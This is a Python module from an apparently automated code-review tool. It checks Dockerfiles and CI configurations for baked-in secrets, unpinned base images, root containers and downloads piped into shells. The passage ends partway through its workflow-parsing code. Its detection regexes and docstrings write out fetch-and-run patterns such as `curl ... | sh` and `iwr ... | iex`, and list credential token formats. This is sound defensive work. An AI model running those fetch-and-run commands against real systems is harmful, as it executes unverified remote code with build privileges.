"""The docker_ci rule pack: Dockerfiles and CI configuration.

The pack claims Dockerfiles (`Dockerfile`, `Dockerfile.*`, `*.Dockerfile`, `Containerfile`), GitHub
Actions workflows (`.github/workflows/*.yml`), composite actions (`action.yml`), `.gitlab-ci.yml`
and shell scripts, outside vendored folders; each check decides by the kind of file.

Dockerfiles are read as instructions the way BuildKit reads them: line continuations are joined,
comment lines inside a continuation are dropped, heredoc bodies (`RUN <<EOF`) belong to their
instruction, and every offset in an instruction maps back to its physical line. Stages are tracked
by alias, so `FROM builder` is a stage and not an image, a final stage inherits the `USER` of the
stage it builds on, and `FROM ${BASE}` is resolved through the ARG defaults declared before the
first `FROM`.

Workflows and actions are read with PyYAML's composer, which keeps the line of every node: findings
land on the offending value, and on the actual line inside a `run: |` block. When the YAML does not
parse (a syntax error, or the sparse text of a diff file), a line-based reading of the same shapes
(`uses:` lines, `run:` blocks by indentation) takes over, and rules that need the whole document
(which job checks out what) keep to what the lines show.

Shell text (RUN, `run:`, GitLab `script:`, shell scripts) is split into pipelines with quotes and
comments respected, so `curl ... | tar xz` and `echo "a | sh"` stay quiet. No rationale ever
carries the value of a secret: only its name.
"""

from __future__ import annotations

import json
import re
from bisect import bisect_right
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from functools import lru_cache

import yaml
from yaml.nodes import MappingNode, Node, ScalarNode, SequenceNode

from ...findings import Severity
from ..rule import FileUnderReview, Hit, ReviewContext, Rule, RulePack

_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)

# --- path routing ---------------------------------------------------------------------------------

_VENDORED = re.compile(
    r"(?:^|/)(?:node_modules|vendor|third_party|\.venv|venv|site-packages|bower_components)/"
)
_WORKFLOW_PATH = re.compile(r"(?:^|/)\.github/workflows/[^/]+\.ya?ml$", re.I)
# `Dockerfile.<suffix>` names a variant (`Dockerfile.dev`, `Dockerfile.prod`); these suffixes are
# other kinds of file that merely start with the word (`dockerfile.py`, `Dockerfile.dockerignore`).
_NOT_DOCKERFILE_SUFFIXES = frozenset(
    "dockerignore md rst txt py js ts go rs java rb json yml yaml toml sh lock html orig rej bak "
    "swp".split()
)


def file_kind(path: str) -> str | None:
    """`dockerfile`, `workflow`, `action`, `gitlab` or `shell` for a path this pack reads."""
    if _VENDORED.search(path):
        return None
    name = path.rsplit("/", 1)[-1]
    lower = name.lower()
    if lower in ("dockerfile", "containerfile") or lower.endswith(
        (".dockerfile", ".containerfile")
    ):
        return "dockerfile"
    if lower.startswith(("dockerfile.", "containerfile.", "dockerfile-", "dockerfile_")):
        return None if lower.rsplit(".", 1)[-1] in _NOT_DOCKERFILE_SUFFIXES else "dockerfile"
    if _WORKFLOW_PATH.search(path):
        return "workflow"
    if lower in ("action.yml", "action.yaml"):
        return "action"
    if lower in (".gitlab-ci.yml", ".gitlab-ci.yaml"):
        return "gitlab"
    if lower.endswith((".sh", ".bash")):
        return "shell"
    return None


# --- shell text -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Text:
    """A run of shell text assembled from physical lines; any offset maps back to its line."""

    text: str
    starts: tuple[int, ...]
    lines: tuple[int, ...]

    def line_at(self, pos: int) -> int:
        return self.lines[max(0, bisect_right(self.starts, pos) - 1)]


def _assemble(pieces: Iterable[tuple[int, str, str]]) -> Text:
    """Join (line, text, separator-before) pieces into one Text."""
    parts: list[str] = []
    starts: list[int] = []
    lines: list[int] = []
    size = 0
    for number, text, sep in pieces:
        if parts:
            parts.append(sep)
            size += len(sep)
        starts.append(size)
        lines.append(number)
        parts.append(text)
        size += len(text)
    return Text("".join(parts), tuple(starts), tuple(lines) or (1,))


def shell_commands(lines: Iterable[tuple[int, str]]) -> list[Text]:
    """Logical shell lines: backslash continuations joined, full-line comments dropped."""
    commands: list[Text] = []
    pending: list[tuple[int, str, str]] = []
    for number, raw in lines:
        stripped = raw.strip()
        if not pending and (not stripped or stripped.startswith("#")):
            continue
        body = raw.rstrip()
        if body.endswith("\\") and not body.endswith("\\\\"):
            pending.append((number, body[:-1], " "))
            continue
        pending.append((number, raw, " "))
        commands.append(_assemble(pending))
        pending = []
    if pending:
        commands.append(_assemble(pending))
    return commands


def pipelines(text: str) -> list[list[tuple[int, int]]]:
    """The pipelines in a shell command list, each a list of (start, end) stage spans. Splits on
    unquoted `|`, `;`, `&&`, `||`, `&` and newlines; an unquoted `#` at a word start ends the
    line."""
    result: list[list[tuple[int, int]]] = []
    stages: list[tuple[int, int]] = []
    start = 0
    quote = ""
    i = 0
    n = len(text)

    def close_stage(end: int) -> None:
        if text[start:end].strip():
            stages.append((start, end))

    while i < n:
        char = text[i]
        if quote:
            if char == "\\" and quote == '"':
                i += 2
                continue
            if char == quote:
                quote = ""
        elif char == "\\":
            i += 2
            continue
        elif char in "'\"`":
            quote = char
        elif char == "#" and (i == 0 or text[i - 1] in " \t\n;|&("):
            end = text.find("\n", i)
            close_stage(i)
            i = n if end < 0 else end
            start = i
            continue
        elif char == "|" and not text.startswith("||", i):
            close_stage(i)
            start = i + 2 if text.startswith("|&", i) else i + 1
            i = start
            continue
        elif char in ";\n" or char == "|" or (char == "&" and text[i - 1 : i] != ">"):
            if char == "&" and text.startswith("&>", i):
                i += 1
                continue
            close_stage(i)
            if stages:
                result.append(stages)
            stages = []
            i += 2 if text.startswith(("&&", "||"), i) else 1
            start = i
            continue
        i += 1
    close_stage(n)
    if stages:
        result.append(stages)
    return result


_WORD = re.compile(r"""(?:[^\s"'`]|"(?:[^"\\]|\\.)*"?|'[^']*'?|`[^`]*`?)+""")
_ASSIGNMENT = re.compile(r"^[A-Za-z_]\w*=")
_PREFIX_WORDS = frozenset({"then", "do", "else", "!", "{", "(", "time", "exec", "command", "nohup"})
_SUDO_VALUE_FLAGS = frozenset({"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"})


def _unquote(word: str) -> str:
    return word.replace('"', "").replace("'", "")


def words_of(stage: str) -> list[str]:
    return _WORD.findall(stage)


def command_of(words: list[str]) -> list[str]:
    """The command a stage runs, with its arguments: assignments, `sudo`, `env` and keywords
    in front are skipped."""
    i = 0
    while i < len(words):
        word = words[i]
        if _ASSIGNMENT.match(word) or word in _PREFIX_WORDS:
            i += 1
        elif word == "sudo":
            i += 1
            while i < len(words) and words[i].startswith("-"):
                i += 2 if words[i] in _SUDO_VALUE_FLAGS else 1
        elif word == "env" and i + 1 < len(words):
            i += 1
            while i < len(words) and (words[i].startswith("-") or _ASSIGNMENT.match(words[i])):
                i += 1
        else:
            break
    return [_unquote(w) for w in words[i:]]


def _program(command: list[str]) -> str:
    return command[0].rsplit("/", 1)[-1] if command else ""


# --- remote script execution ----------------------------------------------------------------------

_DOWNLOADER = re.compile(r"(?<![\w.-])(?:curl|wget)(?![\w.-])")
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish"})
_INTERPRETER = re.compile(r"^(?:python[\d.]*|perl|ruby|node|php|pwsh|powershell)$")
_SUBSTITUTED_EXEC = re.compile(
    r"(?:\b(?:ba|z|da|k|mk)?sh|\b(?:python[\d.]*|perl|ruby|node|php)|\bsource|(?<![\w./-])\.)"
    r"\s+(?:-\S+\s+)*<\(\s*(?:sudo\s+)?(?:curl|wget)\b"
    r"|\b(?:ba|z|da|k|mk)?sh\s+(?:-\w+\s+)*-\w*c\w*\s+[\"']?(?:\$\(|`)\s*(?:sudo\s+)?(?:curl|wget)\b"
    r"|\beval\s+[\"']?(?:\$\(|`)\s*(?:curl|wget)\b"
    r"|\b(?:python[\d.]*|perl|ruby|node)\s+-[ce]\s+[\"']?(?:\$\(|`)\s*(?:curl|wget)\b"
)
_POWERSHELL_EXEC = re.compile(
    r"\b(?:iex|Invoke-Expression)\b[^\n|;]*?\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b"
    r"|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n|;]*\|\s*(?:iex|Invoke-Expression)\b",
    re.I,
)
_MAY_DOWNLOAD = re.compile(
    r"\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b", re.I
)


def _runs_stdin(command: list[str]) -> bool:
    """Whether a pipeline stage executes what it reads on stdin as a program."""
    program = _program(command)
    args = command[1:]
    if "--" in args:  # what follows `--` goes to the script, not the interpreter
        args = args[: args.index("--")]
    if program in _SHELLS:
        return not any(a.startswith("-") and not a.startswith("--") and "c" in a for a in args)
    if _INTERPRETER.match(program):
        for arg in args:
            if arg == "-":
                return True
            if not arg.startswith("-") or any(flag in arg for flag in "cem"):
                return False
        return True
    return False


def remote_exec(command: Text) -> Iterator[tuple[int, int, str]]:
    """(start line, end line, what) for each download executed as a script in a command."""
    text = command.text
    if not _MAY_DOWNLOAD.search(text):
        return
    for match in _SUBSTITUTED_EXEC.finditer(text):
        what = f"{match.group().strip()} ...)"
        yield command.line_at(match.start()), command.line_at(match.end()), what
    for match in _POWERSHELL_EXEC.finditer(text):
        yield command.line_at(match.start()), command.line_at(match.end()), match.group().strip()
    for stages in pipelines(text):
        if len(stages) < 2:
            continue
        for index, (start, end) in enumerate(stages[:-1]):
            download = _DOWNLOADER.search(text, start, end)
            if download is None:
                continue
            for later_start, later_end in stages[index + 1 :]:
                shell = command_of(words_of(text[later_start:later_end]))
                if _runs_stdin(shell):
                    what = f"{download.group()} ... | {' '.join(shell[:2])}".strip()
                    yield command.line_at(download.start()), command.line_at(later_start), what
                    break
            break


# --- Dockerfiles ----------------------------------------------------------------------------------

_KEYWORD = re.compile(r"\s*([A-Za-z]+)(?=\s|$)")
_HEREDOC = re.compile(r"(?<!<)<<(-?)\s*([\"']?)([A-Za-z_][\w.-]*)\2")
_ESCAPE_DIRECTIVE = re.compile(r"#\s*escape\s*=\s*(\S)", re.I)
_DIRECTIVE = re.compile(r"#\s*[A-Za-z]+\s*=")
_VARIABLE = re.compile(r"\$\{([A-Za-z_]\w*)(?:(:?[-+])([^}]*))?\}|\$([A-Za-z_]\w*)")


@dataclass(frozen=True)
class Instruction:
    keyword: str  # upper case
    args: Text  # everything after the keyword, continuations joined, heredoc bodies appended

    @property
    def line(self) -> int:
        return self.args.lines[0]


@dataclass(frozen=True)
class Stage:
    line: int  # the FROM line
    image: str  # as written
    alias: str | None
    base: int | None  # index of the earlier stage it builds on, if any
    users: tuple[tuple[int, str], ...]  # USER instructions: (line, value)


@dataclass(frozen=True)
class Dockerfile:
    instructions: tuple[Instruction, ...]
    stages: tuple[Stage, ...]
    global_args: dict[str, str | None]  # ARGs before the first FROM: name -> default
    arg_names: frozenset[str]  # every ARG declared anywhere


def _escape_char(lines: list[str]) -> str:
    for line in lines:
        stripped = line.strip()
        match = _ESCAPE_DIRECTIVE.match(stripped)
        if match and match.group(1) in "\\`":
            return match.group(1)
        if not _DIRECTIVE.match(stripped):
            break
    return "\\"


def _instructions(lines: list[str]) -> list[Instruction]:
    escape = _escape_char(lines)
    result: list[Instruction] = []
    n = len(lines)
    i = 0
    while i < n:
        raw = lines[i]
        stripped = raw.strip()
        keyword = _KEYWORD.match(raw)
        if not stripped or stripped.startswith("#") or keyword is None:
            i += 1
            continue
        pieces: list[tuple[int, str, str]] = []
        text, number = raw[keyword.end() :], i + 1
        while True:
            body = text.rstrip()
            i += 1
            if not body.endswith(escape):
                pieces.append((number, text, " "))
                break
            pieces.append((number, body[:-1], " "))
            while i < n and (not lines[i].strip() or lines[i].lstrip().startswith("#")):
                i += 1
            if i >= n:
                break
            text, number = lines[i], i + 1
        name = keyword.group(1).upper()
        if name in ("RUN", "COPY", "ADD"):
            for heredoc in _HEREDOC.finditer(" ".join(p[1] for p in pieces)):
                delimiter = heredoc.group(3)
                while i < n:
                    body_line = lines[i]
                    i += 1
                    if body_line.strip() == delimiter:
                        break
                    pieces.append((i, body_line, "\n"))
        result.append(Instruction(name, _assemble(pieces)))
    return result


_TOKEN = re.compile(r"""(?:[^\s"'\\]|\\.|"(?:[^"\\]|\\.)*"?|'[^']*'?)+""")


def _tokens(args: str) -> list[re.Match[str]]:
    return list(_TOKEN.finditer(args))


def _strip_quotes(value: str) -> str:
    if len(value) >= 2 and value[0] == value[-1] and value[0] in "\"'":
        return value[1:-1]
    return value


def _substitute(value: str, args: dict[str, str | None]) -> str | None:
    """`value` with `$VAR`/`${VAR}`/`${VAR:-default}` replaced from `args`; None when a variable
    has no known value."""
    unresolved = False

    def replace(match: re.Match[str]) -> str:
        nonlocal unresolved
        name = match.group(1) or match.group(4)
        known = args.get(name)
        if known and match.group(2) not in (":+", "+"):
            return known
        if match.group(2) in (":-", "-") and match.group(3):
            return match.group(3)
        unresolved = True
        return ""

    result = _VARIABLE.sub(replace, value)
    return None if unresolved else result


def _from_parts(args: str) -> tuple[str, str | None]:
    words = [t.group() for t in _tokens(args) if not t.group().startswith("--")]
    image = _strip_quotes(words[0]) if words else ""
    alias = words[2] if len(words) >= 3 and words[1].lower() == "as" else None
    return image, alias.lower() if alias else None


@lru_cache(maxsize=64)
def dockerfile(text: str) -> Dockerfile:
    instructions = _instructions(text.splitlines())
    stages: list[Stage] = []
    users: list[tuple[int, str]] = []
    aliases: dict[str, int] = {}
    global_args: dict[str, str | None] = {}
    arg_names: set[str] = set()

    def close() -> None:
        if stages:
            stages[-1] = Stage(
                stages[-1].line, stages[-1].image, stages[-1].alias, stages[-1].base, tuple(users)
            )

    for instruction in instructions:
        args = instruction.args.text
        if instruction.keyword == "FROM":
            close()
            users = []
            image, alias = _from_parts(args)
            base = aliases.get(image.lower())
            stages.append(Stage(instruction.line, image, alias, base, ()))
            if alias:
                aliases[alias] = len(stages) - 1
        elif instruction.keyword == "USER" and stages:
            value = args.strip()
            if value:
                users.append((instruction.line, value.split()[0]))
        elif instruction.keyword == "ARG":
            for token in _tokens(args):
                name, eq, default = token.group().partition("=")
                arg_names.add(name)
                if not stages:
                    global_args[name] = _strip_quotes(default) if eq else None
    close()
    return Dockerfile(tuple(instructions), tuple(stages), global_args, frozenset(arg_names))


# --- secrets in ENV/ARG ---------------------------------------------------------------------------

_SECRET_WORDS = frozenset(
    {"PASSWORD", "PASSWD", "PASSPHRASE", "PASS", "SECRET", "TOKEN", "APIKEY", "CREDENTIAL"}
    | {"CREDENTIALS", "PRIVATEKEY", "SECRETKEY", "ACCESSKEY", "AUTHTOKEN"}
)
_SECRET_SUFFIXES = ("PASSWORD", "PASSWD", "TOKEN", "SECRET", "APIKEY")
# A word after the secret word that makes the name describe the secret rather than hold it:
# TOKEN_URL, PASSWORD_MIN_LENGTH, DB_PASSWORD_FILE, API_KEY_ID.
_QUALIFIERS = frozenset(
    "URL URI URLS HOST HOSTNAME PORT PATH FILE FILES DIR DIRECTORY NAME USER USERNAME ID IDS LENGTH "
    "LEN MIN MAX TTL EXPIRY EXPIRES EXPIRATION EXPIRE TIMEOUT LIFETIME DURATION AGE HEADER HEADERS "
    "TYPE ENDPOINT REGION ENABLED ENABLE DISABLED DISABLE REQUIRED POLICY ALGORITHM ALG FORMAT "
    "PREFIX SUFFIX FIELD PARAM PARAMETER VERSION MODE LOCATION ARN KIND SIZE COUNT LIMIT DAYS "
    "SECONDS HOURS MINUTES STRATEGY PROVIDER ISSUER AUDIENCE SCOPE SCOPES STORE BACKEND VAR ENV "
    "NAMESPACE REF SOURCE SERVER ENCODING ROTATION HASH COMPLEXITY STRENGTH ROUNDS ITERATIONS "
    "LABEL MOUNT REGEX PATTERN CHARS LEVEL FLAG RESET PROMPT HINT".split()
)
# Words before KEY that make it something other than a credential: GPG_KEY (a fingerprint),
# CACHE_KEY, PARTITION_KEY, RECAPTCHA_SITE_KEY (public by design), KMS_KEY (an id).
_NOT_SECRET_KEY = frozenset(
    "GPG PGP GNUPG CACHE PRIMARY PARTITION SORT HASH OBJECT ROUTING IDEMPOTENCY LOOKUP FOREIGN "
    "SITE ANON S3 KMS".split()
)
_PUBLIC_WORDS = frozenset({"PUBLIC", "PUBLISHABLE", "PUB"})
_COUNTING_WORDS = frozenset({"MAX", "MIN", "NUM"})
# Switches about a credential rather than the credential: MYSQL_ALLOW_EMPTY_PASSWORD=yes.
_SWITCH_WORDS = frozenset({"ALLOW", "EMPTY", "RANDOM", "GENERATE", "SKIP", "REQUIRE", "NO"})
_CAMEL = re.compile(r"([a-z0-9])([A-Z])")
_NAME_SPLIT = re.compile(r"[^A-Z0-9]+")
_CREDENTIAL_FORMAT = re.compile(
    r"^(?:AKIA|ASIA)[0-9A-Z]{16}$|^gh[pousr]_[A-Za-z0-9]{30,}$|^github_pat_\w{20,}$"
    r"|^glpat-[\w-]{20,}$|^xox[abposr]-[\w-]{10,}$|^[sr]k_live_\w{10,}$|^sk-(?:proj-|ant-)?[\w-]{20,}$"
    r"|^npm_[A-Za-z0-9]{30,}$|^AIza[\w-]{35}$|-----BEGIN [A-Z ]*PRIVATE KEY"
)
# The user part may be empty: `redis://:password@host:6379/0` is how Redis URLs carry a password.
_URL_CREDENTIALS = re.compile(r"[A-Za-z][\w+.-]*://[^/\s:@]*:([^/\s@]+)@")
# `user:password` pairs (comma-separated for several users), as FLOWER_BASIC_AUTH or
# PROXY_AUTH take them; only read under a name with the word AUTH in it. An all-digit part after
# the colon is a port (`AUTH_SERVER=keycloak:8080`), not a password.
_USER_PASS = r"[\w.@+-]+:(?!\d+(?:,|$))[^\s:/@,]{4,}"
_USER_PASSWORD_VALUE = re.compile(rf"^{_USER_PASS}(?:,{_USER_PASS})*$")
_NOT_A_SECRET_VALUE = re.compile(
    r"^(?:true|false|yes|no|on|off|0|1|none|null|nil|)$|^(?:/|\./|\.\./|~/)|^https?://[^@]*$"
    r"|^<[^>]*>$|^pk_(?:live|test)_|^(?:dummy|placeholder|replace[_-]?me|x{3,}|\*{3,}|your[_-].*)$",
    re.I,
)


def _name_words(name: str) -> list[str]:
    return [w for w in _NAME_SPLIT.split(_CAMEL.sub(r"\1_\2", name).upper()) if w]


def secret_name(name: str) -> bool:
    """Whether an ENV/ARG name reads as holding a credential (API_KEY, DB_PASSWORD, NPM_TOKEN),
    not as describing one (TOKEN_URL, PASSWORD_MIN_LENGTH, PUBLIC_KEY_PATH, GPG_KEY)."""
    words = _name_words(name)
    if not words or _PUBLIC_WORDS.intersection(words):
        return False
    if _SWITCH_WORDS.intersection(words):
        return False
    for i, word in enumerate(words):
        before = words[i - 1] if i else ""
        if word == "KEY":
            secret = before not in _NOT_SECRET_KEY
        else:
            secret = word in _SECRET_WORDS or word.endswith(_SECRET_SUFFIXES)
        if not secret or before in _COUNTING_WORDS:
            continue
        if not _QUALIFIERS.intersection(words[i + 1 :]):
            return True
    return False


_ENV_NAME = re.compile(r"[A-Za-z_][\w.-]*")


def _env_pairs(instruction: Instruction) -> Iterator[tuple[str, str | None, int]]:
    """(name, value or None when absent, offset of the name) for an ENV or ARG instruction."""
    text = instruction.args.text
    tokens = _tokens(text)
    if not tokens:
        return
    if instruction.keyword == "ENV" and "=" not in tokens[0].group():
        if len(tokens) > 1:  # legacy `ENV NAME value with spaces`
            yield tokens[0].group(), text[tokens[1].start() :].strip(), tokens[0].start()
        return
    for token in tokens:
        name, eq, value = token.group().partition("=")
        if _ENV_NAME.fullmatch(name):
            yield name, value if eq else None, token.start()


def check_secret_in_env(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """A credential in `ENV` or `ARG`. A literal value (or a URL with a password in it) is baked
    into the image config and layers for anyone who can pull it; `ENV X=$BUILD_ARG` copies a build
    argument into the runtime environment; a bare `ARG NPM_TOKEN` is recorded in the image
    history (`docker history`) with whatever value the build passed. A `user:password` pair under
    an AUTH name (`FLOWER_BASIC_AUTH=ops:pw`) is a credential too. Empty values, paths, plain
    URLs, booleans, placeholders and `--mount=type=secret` stay quiet."""
    if not file.text or file_kind(file.path) != "dockerfile":
        return
    parsed = dockerfile(file.text)
    for instruction in parsed.instructions:
        if instruction.keyword not in ("ENV", "ARG"):
            continue
        for name, raw_value, offset in _env_pairs(instruction):
            line = instruction.args.line_at(offset)
            if not file.is_changed(line):
                continue
            value = _strip_quotes(raw_value.strip()) if raw_value is not None else None
            hit = _secret_hit(instruction.keyword, name, value, parsed)
            if hit is not None:
                severity, rationale = hit
                yield Hit(line, severity=severity, rationale=rationale)


def _secret_hit(
    keyword: str, name: str, value: str | None, parsed: Dockerfile
) -> tuple[Severity, str] | None:
    """The severity and rationale for one ENV/ARG pair, or None when it holds no credential."""
    literal = bool(value) and "$" not in (value or "")
    if literal and _CREDENTIAL_FORMAT.search(value or ""):
        return Severity.CRITICAL, (
            f"`{keyword} {name}` holds a live credential: it is stored in the image config and "
            "layers, readable by anyone who can pull the image, and stays in the repository history."
        )
    if literal and "://" in (value or "") and _URL_CREDENTIALS.search(value or ""):
        return Severity.HIGH, (
            f"`{keyword} {name}` is a URL with a password in it: the credential is baked into the "
            "image (config and history) for anyone who can pull it."
        )
    if (
        literal
        and "AUTH" in _name_words(name)
        and not _PUBLIC_WORDS.intersection(_name_words(name))
        and _USER_PASSWORD_VALUE.match(value or "")
    ):
        return Severity.HIGH, (
            f"`{keyword} {name}` holds a `user:password` pair: the credential is baked into the "
            "image (config and history) for anyone who can pull it."
        )
    if not secret_name(name):
        return None
    if literal:
        if _NOT_A_SECRET_VALUE.search(value or ""):
            return None
        if keyword == "ARG":
            return Severity.HIGH, (
                f"`ARG {name}` has a literal credential as its default: it is in the Dockerfile's "
                "history and in the image history (`docker history`) of every build."
            )
        return Severity.HIGH, (
            f"`ENV {name}` sets a credential to a literal value: it is baked into the image "
            "config for anyone who can pull the image, and stays in the repository history."
        )
    if keyword == "ARG":
        return Severity.MEDIUM, (
            f"`ARG {name}` passes a credential as a build argument: build-arg values are recorded "
            "in the image history (`docker history --no-trunc`) and in build caches."
        )
    referenced = {m.group(1) or m.group(4) for m in _VARIABLE.finditer(value or "")}
    if referenced & parsed.arg_names:
        return Severity.HIGH, (
            f"`ENV {name}` copies a build argument into the image's runtime environment: the "
            "credential passed at build time ships inside the image (`docker inspect` shows it)."
        )
    return None


# --- FROM pinning ---------------------------------------------------------------------------------


def _unpinned(image: str, args: dict[str, str | None]) -> str | None:
    """Why `image` (as written in FROM) is not pinned, or None when it is or cannot be told."""
    resolved = _substitute(image, args)
    shown = f"`{image}`" if resolved in (None, image) else f"`{image}` (`{resolved}`)"
    image = resolved if resolved is not None else image
    last = image.rsplit("/", 1)[-1]
    if "$" in last or "@" in image or image.lower() == "scratch":
        return None
    if ":" not in last:
        return f"{shown} has no tag, so it means `latest`"
    if last.partition(":")[2].lower() == "latest":
        return f"{shown} uses the mutable `latest` tag"
    return None


def check_unpinned_base_image(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """`FROM` an image with no tag or the `latest` tag: every build can pull a different base, so
    builds are not reproducible and an upstream change (or a compromised tag) ships silently.
    Stage aliases, `scratch`, digests and `${VAR}` images whose ARG default is tagged are fine."""
    if not file.text or file_kind(file.path) != "dockerfile":
        return
    parsed = dockerfile(file.text)
    for stage in parsed.stages:
        if stage.base is not None or not stage.image or not file.is_changed(stage.line):
            continue
        why = _unpinned(stage.image, parsed.global_args)
        if why:
            yield Hit(
                stage.line,
                rationale=f"The base image {why}: each build may pull a different image, so builds are not reproducible and upstream changes ship unreviewed.",
            )


# --- USER in the final stage ----------------------------------------------------------------------

_ROOT_USERS = frozenset({"root", "0"})
_NONROOT_IMAGE = re.compile(r"nonroot|non-root|rootless|unprivileged|^cgr\.dev/chainguard/", re.I)
_REMOVED_USER = re.compile(r"^\s*USER\s+(\S+)", re.I)


def _root_user(value: str) -> bool:
    return value.split(":", 1)[0].lower() in _ROOT_USERS


def check_runs_as_root(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """The final stage runs as root: no `USER` in it (or in the stages it builds on), or the last
    `USER` is `root`/`0`. A process escaping the application then owns the container and has an
    easier path to the host. `FROM scratch` and images built to run unprivileged (`:nonroot`
    distroless, Chainguard, `*-unprivileged`) are exempt, as are dev containers."""
    if (
        not file.text
        or file_kind(file.path) != "dockerfile"
        or "/.devcontainer/" in f"/{file.path}"
    ):
        return
    stages = dockerfile(file.text).stages
    if not stages:
        return
    index: int | None = len(stages) - 1
    seen: set[int] = set()
    external = ""
    while index is not None and index not in seen:
        seen.add(index)
        stage = stages[index]
        if stage.users:
            line, value = stage.users[-1]
            if _root_user(value):
                yield Hit(
                    line,
                    rationale=f"The final image runs as `{value}`: a compromised process owns the container and has an easier path to the host.",
                )
            return
        external = stage.image
        index = stage.base
    final = stages[-1]
    if external.lower() == "scratch" or _NONROOT_IMAGE.search(external):
        return
    removed = [
        m.group(1)
        for m in map(_REMOVED_USER.match, file.removed_text)
        if m and not _root_user(m.group(1))
    ]
    if removed and not file.is_new:
        yield Hit(
            final.line,
            anywhere=True,
            rationale=f"The change removes `USER {removed[-1]}`, so the final stage now runs as root: a compromised process owns the container and has an easier path to the host.",
        )
    else:
        yield Hit(
            final.line,
            rationale="The final stage has no `USER`, so the container runs as root: a compromised process owns the container and has an easier path to the host.",
        )


# --- remote scripts piped to a shell --------------------------------------------------------------


def _dockerfile_commands(parsed: Dockerfile) -> Iterator[Text]:
    for instruction in parsed.instructions:
        keyword, args = instruction.keyword, instruction.args
        if keyword == "ONBUILD":
            inner = _KEYWORD.match(args.text)
            if not inner or inner.group(1).upper() != "RUN":
                continue
        elif keyword != "RUN":
            continue
        text = args.text.lstrip()
        while text.startswith("--"):
            text = text.split(None, 1)[1].lstrip() if " " in text.strip() else ""
        if text.startswith("["):
            try:
                exec_form = json.loads(text)
            except (ValueError, RecursionError):
                exec_form = None
            if isinstance(exec_form, list) and all(isinstance(a, str) for a in exec_form):
                script = " ".join(
                    exec_form[exec_form.index("-c") + 1 :] if "-c" in exec_form else exec_form
                )
                yield Text(script, (0,), (instruction.line,))
                continue
        yield args


def _script_commands(file: FileUnderReview) -> Iterator[Text]:
    kind = file_kind(file.path)
    text = file.text or ""
    if kind == "dockerfile":
        yield from _dockerfile_commands(dockerfile(text))
    elif kind in ("workflow", "action"):
        for script in workflow(text).scripts:
            yield from shell_commands(script.lines)
    elif kind == "gitlab":
        for lines in gitlab_scripts(text):
            yield from shell_commands(lines)
    elif kind == "shell":
        yield from shell_commands(enumerate(file.lines, start=1))


def check_curl_pipe_shell(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """A download executed straight into an interpreter: `curl ... | sh`, `wget -qO- ... | sudo
    bash`, `sh -c "$(curl ...)"`, `bash <(curl ...)`, `iwr ... | iex`. Whatever the server (or
    anyone between) returns runs with the build's privileges and credentials, unverified.
    Downloading to a file and checking a checksum, or piping into `tar`, `jq` or `gpg`, is fine."""
    if not file.text:
        return
    seen: set[int] = set()
    for command in _script_commands(file):
        for line, end, what in remote_exec(command):
            # `curl ...` and `| sh` may sit on different lines: a change to either counts.
            touched = any(file.is_changed(n) for n in range(line, end + 1))
            if line in seen or not touched:
                continue
            seen.add(line)
            yield Hit(
                line,
                end_line=end,
                anywhere=True,
                rationale=f"`{what[:60]}` runs a downloaded script unverified: whatever the server (or anyone in between) returns executes with the build's privileges and secrets.",
            )


# --- workflows ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Script:
    lines: tuple[tuple[int, str], ...]  # (line number, physical text)
    secret_env: frozenset[str]  # env names bound to secrets where the script runs
    job: int = 0  # the job it runs in: its steps share a workspace and `$RUNNER_TEMP`


@dataclass(frozen=True)
class HeadCheckout:
    line: int
    runs_code: bool  # a later step in the job builds, installs or runs something


@dataclass(frozen=True)
class Workflow:
    triggers: tuple[tuple[str, int], ...]  # (event, line)
    uses: tuple[tuple[int, str], ...]
    permissions: tuple[tuple[int, str], ...]
    scripts: tuple[Script, ...]
    js_scripts: tuple[Script, ...]  # actions/github-script `script:` inputs
    head_checkouts: tuple[HeadCheckout, ...]


_SECRET_EXPR = re.compile(r"\$\{\{[^}]*?\b(?:secrets|github\.token)\b[^}]*\}\}")
# A step output that is itself a credential (`steps.app-token.outputs.token`, `...outputs.password`,
# google-github-actions/auth's `access_token`): not a repository secret, but just as sensitive.
_STEP_OUTPUT = re.compile(r"\$\{\{[^}]*?\bsteps\.[\w-]+\.outputs\.([\w-]+)[^}]*\}\}")
_CREDENTIAL_OUTPUT_WORDS = frozenset({"TOKEN", "PASSWORD", "PASSWD", "SECRET"})


def _secret_expression(text: str) -> str | None:
    """The first `${{ }}` expression in `text` that yields a credential."""
    match = _SECRET_EXPR.search(text)
    if match:
        return match.group()
    for output in _STEP_OUTPUT.finditer(text):
        name = output.group(1)
        if _CREDENTIAL_OUTPUT_WORDS.intersection(_name_words(name)) and secret_name(name):
            return output.group()
    return None


_PR_HEAD = re.compile(
    r"github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|refs/pull/"
    r"|github\.event\.pull_request\.merge_commit_sha|github\.event\.workflow_run\.head_(?:sha|branch|repository)"
)
_RUN_HEAD_CHECKOUT = re.compile(
    r"\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n#]*\bpull/|\bgit\s+(?:checkout|switch|reset\s+--hard)\b[^\n#]*(?:"
    + _PR_HEAD.pattern
    + r")"
)
_SAME_REPO_GUARD = re.compile(
    r"head\.repo\.full_name\s*==\s*github\.repository\b|github\.repository\s*==\s*github\.event\.pull_request\.head\.repo\.full_name"
    r"|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork"
)
_RUNS_CODE = re.compile(
    r"\b(?:npm|npx|yarn|pnpm|bun|pip|pip3|poetry|uv|tox|nox|pytest|python3?|node|make|cmake|go|cargo|"
    r"mvn|gradle|gradlew|bundle|rake|composer|dotnet|docker|sh|bash|pre-commit)\b|(?:^|\s)\./"
)
